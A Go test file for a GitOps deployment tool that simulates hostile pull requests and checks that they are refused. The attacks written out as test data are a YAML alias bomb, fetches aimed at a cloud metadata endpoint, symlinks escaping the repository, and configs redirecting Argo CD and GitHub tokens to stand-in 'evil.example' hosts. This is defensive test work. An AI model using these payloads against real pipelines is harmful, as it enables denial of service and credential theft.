package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/bgrender/bgrender/pkg/gitops/gitopstest"
)

// The tests here play the author of a hostile pull request to the env repo:
// they control every file, and `bgrender check` gates their pull request.

// aliasBomb is 785 bytes of YAML that expand to 9^9 nodes: kustomize's
// de-anchoring took it to 24 GB of memory.
func aliasBomb() string {
	var b strings.Builder
	b.WriteString("apiVersion: v1\nkind: Service\nmetadata:\n  name: a\n  labels:\n    a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n")
	prev := "a"
	for _, n := range []string{"b", "c", "d", "e", "f", "g", "h", "i"} {
		fmt.Fprintf(&b, "    %s: &%s [%s]\n", n, n, strings.TrimSuffix(strings.Repeat("*"+prev+",", 9), ","))
		prev = n
	}
	return b.String()
}

func configMapKeys(n int) string {
	var b strings.Builder
	b.WriteString("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: big\ndata:\n")
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "  key%06d: value-%060d\n", i, i)
	}
	return b.String()
}

// secretServer stands in for an internal service or a cloud metadata
// endpoint: it serves a secret and counts every request.
type secretServer struct {
	url      string
	requests atomic.Int64
}

func newSecretServer(t *testing.T) *secretServer {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &secretServer{url: "http://" + ln.Addr().String()}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.requests.Add(1)
		io.WriteString(w, "internal-service-secret: AKIAIOSFODNN7EXAMPLE\n")
	}), ConnState: func(_ net.Conn, st http.ConnState) {
		if st == http.StateNew {
			s.requests.Add(1)
		}
	}}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return s
}

// TestHostileContentIsAFinding: content over a limit, or that would make
// kustomize fetch, is a finding of check (exit 1) naming the file, and a
// transition refuses it the same way, pushing nothing.
func TestHostileContentIsAFinding(t *testing.T) {
	t.Parallel()
	srv := newSecretServer(t)
	kust := "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n- service.yaml\n- gateway.yaml\n"
	tests := []struct {
		name  string
		files map[string]string
		want  []string // in check's output and in the transition's error
	}{
		{"alias bomb", map[string]string{"apps/a/base/service.yaml": aliasBomb()},
			[]string{"apps/a/base/service.yaml: more than 100000 YAML nodes once aliases are expanded", "--max-yaml-nodes"}},
		{"3 MB ConfigMap", map[string]string{"apps/a/base/cm.yaml": configMapKeys(40000)},
			[]string{"apps/a/base/cm.yaml: file of ", "over the limit of 2097152", "--max-file-size"}},
		{"6000 ConfigMap keys", map[string]string{"apps/a/base/cm.yaml": configMapKeys(6000)},
			[]string{"apps/a/base/cm.yaml: 6000 entries in one mapping or sequence, over the limit of 5000", "--max-yaml-entries"}},
		{"18 MB state file", map[string]string{"apps/a/bgrender-state.yaml": strings.Repeat("# padding\n", 1_800_000)},
			[]string{"apps/a/bgrender-state.yaml: file of 18000000 bytes", "--max-file-size"}},
		{"deep nesting", map[string]string{"apps/a/base/deep.json": strings.Repeat("[", 5000) + strings.Repeat("]", 5000)},
			[]string{"apps/a/base/deep.json: more than 100 YAML nesting depth", "--max-yaml-depth"}},
		{"replacements from a URL", map[string]string{"apps/a/base/kustomization.yaml": kust + "replacements:\n- path: " + srv.url + "/latest/meta-data\n"},
			[]string{"base/kustomization.yaml: replacements[0].path \"" + srv.url + "/latest/meta-data\": a URL or git remote"}},
		{"configMapGenerator from a URL", map[string]string{"apps/a/base/kustomization.yaml": kust + "configMapGenerator:\n- name: leak\n  files:\n  - " + srv.url + "/secret\n"},
			[]string{"base/kustomization.yaml: configMapGenerator[0].files[0]"}},
		{"openapi from a URL", map[string]string{"apps/a/base/kustomization.yaml": kust + "openapi:\n  path: " + srv.url + "/schema.json\n"},
			[]string{"base/kustomization.yaml: openapi.path"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, "apps/a")
			e.run(0, "init", "--name", "a", "--image", "ghcr.io/acme/a")
			gitopstest.Seed(t, e.url, "main", tc.files, "a hostile pull request")
			head := e.head()
			r := mustBG(t, 1, "--repo", e.url, "check", "--all")
			out := r.stdout + r.stderr
			for _, w := range append(tc.want, "FAIL  apps/a") {
				if !strings.Contains(out, w) {
					t.Errorf("check output lacks %q:\n%s", w, out)
				}
			}
			d := e.run(1, "deploy", "--version", "v2")
			for _, w := range tc.want {
				if !strings.Contains(d.stderr, w) {
					t.Errorf("deploy's error lacks %q:\n%s", w, d.stderr)
				}
			}
			if e.head() != head {
				t.Errorf("a refused deploy moved the remote")
			}
			if strings.Contains(out+d.stdout+d.stderr, "AKIA") {
				t.Errorf("the secret reached the output:\n%s", out)
			}
		})
	}
	if n := srv.requests.Load(); n != 0 {
		t.Fatalf("%d request(s) reached the internal service", n)
	}
}

// TestHostileCheckBounded runs check as its own process, as CI does, on the
// alias bomb and the 3 MB ConfigMap, and measures its peak memory: under 256
// MiB (before, the bomb took 24 GB until the kernel killed it). The deadline
// only stops a hang; the time is measured by BenchmarkCheckAll.
func TestHostileCheckBounded(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, file, content, want string
	}{
		{"alias bomb", "apps/a/base/service.yaml", aliasBomb(), "apps/a/base/service.yaml: more than 100000 YAML nodes"},
		{"3 MB ConfigMap", "apps/a/base/cm.yaml", configMapKeys(40000), "apps/a/base/cm.yaml: file of"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, "apps/a")
			e.run(0, "init", "--name", "a", "--image", "ghcr.io/acme/a")
			gitopstest.Seed(t, e.url, "main", map[string]string{tc.file: tc.content}, "a hostile pull request")
			code, out, rss := peakRSS(t, binary(t), "--repo", e.url, "check", "--all")
			if code != 1 || !strings.Contains(out, tc.want) {
				t.Fatalf("check: exit %d, want 1 with %q\n%s", code, tc.want, out)
			}
			t.Logf("check on the %s: peak RSS %d MiB", tc.name, rss>>20)
			if rss > 256<<20 {
				t.Fatalf("check used %d MiB", rss>>20)
			}
		})
	}
}

// peakRSS runs bin with args from a small helper process (this test binary,
// run again as TestPeakRSSHelper) and returns its exit code, output and
// peak RSS in bytes. Started straight from the test process, the child
// would be charged the test process's own memory: Linux counts a vforking
// parent's resident set into the child's peak at exec.
func peakRSS(t *testing.T, bin string, args ...string) (code int, out string, rss int64) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], "-test.run", "^TestPeakRSSHelper$")
	cmd.Env = append(os.Environ(), "BGRENDER_PEAK_RSS_ARGS="+strings.Join(append([]string{bin}, args...), "\x1f"))
	report, err := cmd.Output()
	if err != nil {
		t.Fatalf("the helper: %v\n%s", err, report)
	}
	var r struct {
		Code int
		Out  string
		RSS  int64
	}
	line := []byte{}
	for _, l := range bytes.Split(report, []byte("\n")) {
		if bytes.HasPrefix(l, []byte(`{"Code"`)) {
			line = l
		}
	}
	if err := json.Unmarshal(line, &r); err != nil {
		t.Fatalf("the helper's report %q: %v", report, err)
	}
	return r.Code, r.Out, r.RSS
}

// TestPeakRSSHelper is peakRSS's helper; it does nothing in a normal run.
func TestPeakRSSHelper(t *testing.T) {
	t.Parallel()
	spec := os.Getenv("BGRENDER_PEAK_RSS_ARGS")
	if spec == "" {
		return
	}
	args := strings.Split(spec, "\x1f")
	cmd := exec.Command(args[0], args[1:]...)
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	rss := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss * 1024 // KiB on Linux
	b, _ := json.Marshal(map[string]any{"Code": code, "Out": string(out), "RSS": rss})
	fmt.Printf("\n%s\n", b)
}

// TestLimitsRaised: a big app passes once the operator raises the limit, by
// flag or environment variable; bad values are usage errors.
func TestLimitsRaised(t *testing.T) {
	t.Parallel()
	e := newEnv(t, "apps/a")
	e.run(0, "init", "--name", "a", "--image", "ghcr.io/acme/a")
	gitopstest.Seed(t, e.url, "main", map[string]string{
		"apps/a/base/cm.yaml":            configMapKeys(6000),
		"apps/a/base/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n- service.yaml\n- gateway.yaml\n- cm.yaml\n",
	}, "a big ConfigMap")
	mustBG(t, 1, "--repo", e.url, "check", "--all")
	mustBG(t, 0, "--repo", e.url, "--max-yaml-entries", "7000", "check", "--all")
	setenv(t, "BGRENDER_MAX_YAML_ENTRIES", "7000")
	e.run(0, "deploy", "--version", "v2")
	for _, bad := range [][]string{{"--max-file-size", "lots"}, {"--max-app-size", "0"}, {"--max-yaml-depth", "0"}} {
		r := mustBG(t, 2, append(append([]string{"--repo", e.url}, bad...), "check", "--all")...)
		if !strings.Contains(r.stderr, bad[0]) {
			t.Errorf("%v: error does not name the flag:\n%s", bad, r.stderr)
		}
	}
}

// TestSymlinksInAppDir: a pull request that makes the app's kustomization a
// link to a file outside the repo and overlays a link to a directory
// outside: check reports both links, render refuses and writes nothing
// (it used to overwrite the outside file and write into the outside
// directory), and a transition refuses.
func TestSymlinksInAppDir(t *testing.T) {
	t.Parallel()
	e := newEnv(t, "apps/a")
	e.run(0, "init", "--name", "a", "--image", "ghcr.io/acme/a")
	e.run(0, "deploy", "--version", "v1")
	checkout := gitopstest.Clone(t, e.url)
	outside := t.TempDir()
	outFile := filepath.Join(outside, "victim.yaml")
	outDir := filepath.Join(outside, "victim-dir")
	if err := os.WriteFile(outFile, []byte("precious\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(outDir, 0o755); err != nil {
		t.Fatal(err)
	}
	app := filepath.Join(checkout, "apps", "a")
	for link, target := range map[string]string{"kustomization.yaml": outFile, "overlays": outDir} {
		if err := os.RemoveAll(filepath.Join(app, link)); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(target, filepath.Join(app, link)); err != nil {
			t.Fatal(err)
		}
	}
	gitopstest.Git(t, checkout, "add", "-A")
	gitopstest.Git(t, checkout, "commit", "-qm", "links out of the repo")
	gitopstest.Git(t, checkout, "push", "-q", "origin", "main")

	r := mustBG(t, 1, "--repo", checkout, "check", "--all")
	for _, w := range []string{"apps/a/kustomization.yaml -> " + outFile, "apps/a/overlays -> " + outDir, "symbolic links"} {
		if !strings.Contains(r.stdout, w) {
			t.Errorf("check output lacks %q:\n%s", w, r.stdout)
		}
	}
	rr := mustBG(t, 1, "--repo", checkout, "--app", "apps/a", "render")
	if !strings.Contains(rr.stderr, "symbolic links") || !strings.Contains(rr.stderr, "nothing was written") {
		t.Errorf("render's error:\n%s", rr.stderr)
	}
	if b, _ := os.ReadFile(outFile); string(b) != "precious\n" {
		t.Errorf("render overwrote the file outside the repo: %q", b)
	}
	if ents, _ := os.ReadDir(outDir); len(ents) != 0 {
		t.Errorf("render wrote into the directory outside the repo: %v", ents)
	}
	head := e.head()
	d := mustBG(t, 1, "--repo", e.url, "--app", "apps/a", "abort")
	if !strings.Contains(d.stderr, "symbolic links") {
		t.Errorf("abort's error:\n%s", d.stderr)
	}
	if e.head() != head {
		t.Errorf("a refused transition moved the remote")
	}
}

// TestDuplicateAppsAndObjects: an app dir declaring another dir's app, or
// rendering another app's objects, fails check --all in both dirs (each
// passed on its own before).
func TestDuplicateAppsAndObjects(t *testing.T) {
	t.Parallel()
	a := newEnv(t, "apps/a")
	a.run(0, "init", "--name", "a", "--image", "ghcr.io/acme/a", "--host", "a.example.com")
	a.run(0, "deploy", "--version", "v1")
	a.run(0, "promote", "--force", "--reason", "test")
	evil := newEnvOn(t, a.url, "apps/evil")
	evil.run(0, "init", "--name", "evil", "--image", "ghcr.io/evil/a", "--host", "evil.example.com")
	mustBG(t, 0, "--repo", a.url, "check", "--all")
	// The evil dir claims app a: its deploy renders a-blue with its image.
	claimed := map[string]string{}
	for p, c := range gitopstest.Files(t, a.url, "main", "apps/evil") {
		claimed["apps/evil/"+p] = strings.ReplaceAll(c, "evil", "a")
	}
	gitopstest.Seed(t, a.url, "main", claimed, "evil claims a")
	evil.run(0, "deploy", "--version", "v666", "--color", "blue")
	other := newEnvOn(t, a.url, "apps/other")
	other.run(0, "init", "--name", "other", "--image", "ghcr.io/acme/other", "--host", "other.example.com")
	gitopstest.Seed(t, a.url, "main", map[string]string{
		"apps/other/base/kustomization.yaml": "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n- service.yaml\n- gateway.yaml\n- stolen.yaml\n",
		"apps/other/base/stolen.yaml":        "apiVersion: v1\nkind: Service\nmetadata:\n  name: a\n",
	}, "other renders a's Service")
	for _, dir := range []string{"apps/a", "apps/evil", "apps/other"} {
		mustBG(t, 0, "--repo", a.url, "--app", dir, "check")
	}
	r := mustBG(t, 1, "--repo", a.url, "-o", "json", "check", "--all")
	var out checkOut
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil {
		t.Fatal(err)
	}
	found := map[string]string{}
	for _, app := range out.Apps {
		found[app.Dir] = strings.Join(app.Findings, "\n")
	}
	for dir, wants := range map[string][]string{
		"apps/a":     {`app "a" in namespace default is also declared by apps/evil`, "Deployment.apps default/a-blue is also rendered by apps/evil", "Service default/a is also rendered by apps/evil, apps/other"},
		"apps/evil":  {`app "a" in namespace default is also declared by apps/a`, "Deployment.apps default/a-blue is also rendered by apps/a"},
		"apps/other": {"Service default/a is also rendered by apps/a, apps/evil"},
	} {
		for _, w := range wants {
			if !strings.Contains(found[dir], w) {
				t.Errorf("%s: findings lack %q:\n%s", dir, w, found[dir])
			}
		}
	}
}

// hostileBranch makes branch on the remote at dir from main's head and
// commits files on it by hand: a pull request's author's own commit.
func hostileBranch(t *testing.T, dir, url, branch string, files map[string]string) {
	t.Helper()
	gitIn(t, dir, "branch", "-f", branch, "main")
	gitopstest.Seed(t, url, branch, files, "a change by hand")
}

// TestPRChangesWhereTheTokenGoes: under check --base, a pull request that
// changes wait.server (where the Argo CD token goes) or how its TLS is
// checked fails; a new app may only send it where an app on the base does.
// So does one that sends a credential from the environment (a Prometheus
// header, a GitHub token) to a server the base's app does not send it to.
func TestPRChangesWhereTheTokenGoes(t *testing.T) {
	t.Parallel()
	dir, url := gitopstest.NewRemote(t, "main")
	e := newEnvOn(t, url, "apps/a")
	e.run(0, "init", "--name", "a", "--image", "ghcr.io/acme/a")
	cfg := gitopstest.Files(t, url, "main", "apps/a")["bgrender.yaml"]
	withWait := cfg + "wait:\n  controller: argocd\n  server: https://argocd.example.com\n"
	gitopstest.Seed(t, url, "main", map[string]string{"apps/a/bgrender.yaml": withWait}, "wait on Argo CD")
	newEnvOn(t, url, "apps/b").run(0, "init", "--name", "b", "--image", "ghcr.io/acme/b")
	bcfg := gitopstest.Files(t, url, "main", "apps/b")["bgrender.yaml"]
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  string // "" for a pass
	}{
		{"same server, other change", map[string]string{"apps/a/bgrender.yaml": strings.Replace(withWait, "port: 3000", "port: 8080", 1)}, ""},
		{"server changed", map[string]string{"apps/a/bgrender.yaml": strings.Replace(withWait, "argocd.example.com", "argocd.evil.example", 1)},
			`wait: this pull request changes where bgrender sends the Argo CD token, from "https://argocd.example.com" to "https://argocd.evil.example"`},
		{"TLS verification off", map[string]string{"apps/a/bgrender.yaml": withWait + "  insecureSkipVerify: true\n"},
			`to "https://argocd.example.com (TLS not verified)"`},
		{"new server on an app that had none", map[string]string{"apps/b/bgrender.yaml": bcfg + "wait:\n  controller: argocd\n  server: http://169.254.169.254\n"},
			`from "" to "http://169.254.169.254"`},
		{"a new app, a known server", map[string]string{"apps/c/bgrender.yaml": strings.ReplaceAll(withWait, "app: a", "app: c"), "apps/c/bgrender-state.yaml": strings.ReplaceAll(gitopstest.Files(t, url, "main", "apps/a")["bgrender-state.yaml"], "app: a", "app: c")}, ""},
		{"a new app, a new server", map[string]string{"apps/c/bgrender.yaml": strings.ReplaceAll(strings.Replace(withWait, "argocd.example.com", "argocd.evil.example", 1), "app: a", "app: c"), "apps/c/bgrender-state.yaml": strings.ReplaceAll(gitopstest.Files(t, url, "main", "apps/a")["bgrender-state.yaml"], "app: a", "app: c")},
			`wait: this new app sends the Argo CD token to "https://argocd.evil.example", where no app on main sends it`},
		// The credentials of analysis and notify: go nowhere new either.
		{"a GitHub token to a new API", map[string]string{"apps/b/bgrender.yaml": bcfg + "notify:\n- {name: d, github: {repository: acme/env, apiURL: 'https://gh.evil.example/api/v3'}}\n"},
			`notify[0].github: this pull request sends $GITHUB_TOKEN to "https://gh.evil.example/api/v3", where the app on main does not`},
		{"a header from the environment to Prometheus", map[string]string{"apps/b/bgrender.yaml": bcfg + "analysis:\n  prometheus: {address: 'http://prom.evil.example', headers: [{name: Authorization, env: BGRENDER_GIT_TOKEN}]}\n  metrics: [{name: m, query: up, max: 1}]\n"},
			`analysis.prometheus.headers[0]: this pull request sends $BGRENDER_GIT_TOKEN to "http://prom.evil.example", where the app on main does not`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			branch := "pr-" + strings.ReplaceAll(tc.name, " ", "-")
			hostileBranch(t, dir, url, branch, tc.files)
			r := bg(t, "--repo", url, "--branch", branch, "check", "--all", "--base", "main")
			switch {
			case tc.want == "" && (strings.Contains(r.stdout, "Argo CD token") || strings.Contains(r.stdout, "this pull request sends $")):
				t.Fatalf("check --base found a token change where there is none:\n%s", r.stdout)
			case tc.want != "" && (r.code != 1 || !strings.Contains(r.stdout, tc.want)):
				t.Fatalf("check --base: exit %d, want 1 with %q:\n%s%s", r.code, tc.want, r.stdout, r.stderr)
			}
		})
	}
}
